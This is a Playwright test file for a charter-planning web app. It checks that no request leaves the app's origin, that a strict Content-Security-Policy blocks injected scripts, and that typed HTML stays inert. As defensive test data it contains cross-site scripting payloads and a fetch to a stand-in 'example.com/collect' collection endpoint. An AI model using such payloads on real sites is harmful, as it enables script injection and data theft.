/**
 * Nothing leaves the browser, nothing breaks in the console, the page runs
 * under a strict Content-Security-Policy, and text typed by users stays text.
 */
import { expect, test, type Page } from '@playwright/test';
import {
  PLAN,
  expectSaved,
  expectStage,
  goNext,
  libraryItems,
  openLibrary,
  readDownload,
  signEveryone,
  walkToReview,
  createCharter,
  goVia,
  fillSetup,
  agreedRadio,
} from './app';
import { pdfText } from './pdfText';

// A control that is not there fails in seconds, not at the end of the test's time.
test.use({ actionTimeout: 10_000 });

interface Watch {
  requests: string[];
  problems: string[];
  dialogs: string[];
}

/** Record every request, console error, uncaught error, CSP violation and dialog on the page. */
async function watch(page: Page): Promise<Watch> {
  const w: Watch = { requests: [], problems: [], dialogs: [] };
  page.context().on('request', (r) => w.requests.push(r.url()));
  page.on('console', (m) => {
    if (m.type() === 'error') w.problems.push(`console.error: ${m.text()}`);
  });
  page.on('pageerror', (e) => w.problems.push(`uncaught: ${e.message}`));
  page.on('dialog', (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI || '(inline)'}`);
    });
  });
  return w;
}

function offOrigin(requests: string[], origin: string): string[] {
  return requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('data:') && !u.startsWith('blob:'));
}

test('a full walk sends nothing beyond the app’s own origin and logs no errors', async ({ page, baseURL }) => {
  test.setTimeout(90_000);
  const w = await watch(page);

  await openLibrary(page);
  await walkToReview(page);
  await goNext(page, 'sign');
  await signEveryone(page);
  await goNext(page, 'export');
  const [pdf] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download the PDF' }).click()]);
  expect((await pdfText(await readDownload(pdf))).text).toContain(PLAN.district);
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download the charter file' }).click(),
  ]);
  expect(JSON.parse((await readDownload(file)).toString('utf8')).status).toBe('signed');
  await page.reload();
  await expectStage(page, 'export');
  await page.getByRole('link', { name: 'Same Playbook: back to all charters' }).click();
  await expect(libraryItems(page)).toHaveCount(1);

  const origin = new URL(baseURL!).origin;
  expect(w.requests.length, 'the walk did load the app').toBeGreaterThan(3);
  expect(offOrigin(w.requests, origin), 'requests beyond the app’s own origin').toEqual([]);
  expect(w.problems, 'console errors, uncaught errors or CSP violations').toEqual([]);
  expect(w.dialogs).toEqual([]);
});

test('the built page carries a strict Content-Security-Policy, and the browser enforces it', async ({ page, request }) => {
  const html = await (await request.get('/')).text();
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  expect(meta, 'a CSP meta tag in index.html').not.toBeNull();
  const policy = meta![1];
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).not.toContain('unsafe-inline');
  expect(policy).not.toContain('unsafe-eval');
  expect(policy).not.toMatch(/https?:/);

  // The policy is the first thing in <head>, before any script, so it covers everything.
  const head = html.slice(html.indexOf('<head>'), html.indexOf('</head>'));
  expect(head.indexOf('Content-Security-Policy')).toBeLessThan(head.indexOf('<script'));

  // In the browser, an injected inline script does not run, and a request elsewhere is blocked.
  const violations: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') violations.push(m.text());
  });
  await openLibrary(page);
  const result = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.head.append(s);
    let fetched = 'no';
    try {
      await fetch('https://example.com/collect', { mode: 'no-cors' });
      fetched = 'yes';
    } catch {
      fetched = 'blocked';
    }
    return { injected: (window as unknown as { __injected?: boolean }).__injected ?? false, fetched };
  });
  expect(result).toEqual({ injected: false, fetched: 'blocked' });
  // ...and the browser says why.
  const said = violations.join('\n');
  expect(said).toMatch(/inline script[^\n]*Content Security Policy[^\n]*script-src/i);
  expect(said).toMatch(/example\.com[^\n]*Content Security Policy[^\n]*connect-src/i);
});

test('HTML typed into the charter shows as text and never runs', async ({ page }) => {
  const w = await watch(page);
  const hostileTitle = '<img src=x onerror=alert(1)>';
  const hostileDistrict = '"><script>window.__xss=1</script>';
  const hostileArea = '<b onmouseover=alert(2)>Reading</b>';

  await openLibrary(page);
  await createCharter(page);
  await fillSetup(page, {
    ...PLAN,
    district: hostileDistrict,
    title: hostileTitle,
    focusAreas: [{ ...PLAN.focusAreas[0], name: hostileArea }],
  });
  await expectSaved(page);

  // Shown literally in the header...
  const banner = page.getByRole('banner');
  await expect(banner).toContainText(hostileTitle);
  await expect(banner).toContainText(hostileDistrict);
  // ...on the positions and decide stages, which name the focus area...
  await goNext(page, 'reflect');
  await goVia(page, 'positions');
  await expect(page.getByRole('main')).toContainText(hostileArea);
  await goVia(page, 'decide');
  await expect(page.getByRole('main')).toContainText(hostileArea);
  await agreedRadio(page, hostileArea, 1).check();
  // ...on the review page...
  await goVia(page, 'review');
  await expect(page.getByRole('main')).toContainText(hostileTitle);
  await expect(page.getByRole('main')).toContainText(hostileArea);
  // ...and in the library.
  await page.getByRole('link', { name: 'Same Playbook: back to all charters' }).click();
  await expect(libraryItems(page).first()).toContainText(hostileTitle);
  await expect(libraryItems(page).first()).toContainText(hostileDistrict);

  // No element was made from the text, and nothing ran.
  await expect(page.locator('img')).toHaveCount(0);
  await expect(page.locator('b[onmouseover], script:not([src])')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(w.dialogs).toEqual([]);
  expect(w.problems.filter((p) => p.startsWith('uncaught') || p.includes('CSP violation:'))).toEqual([]);
});
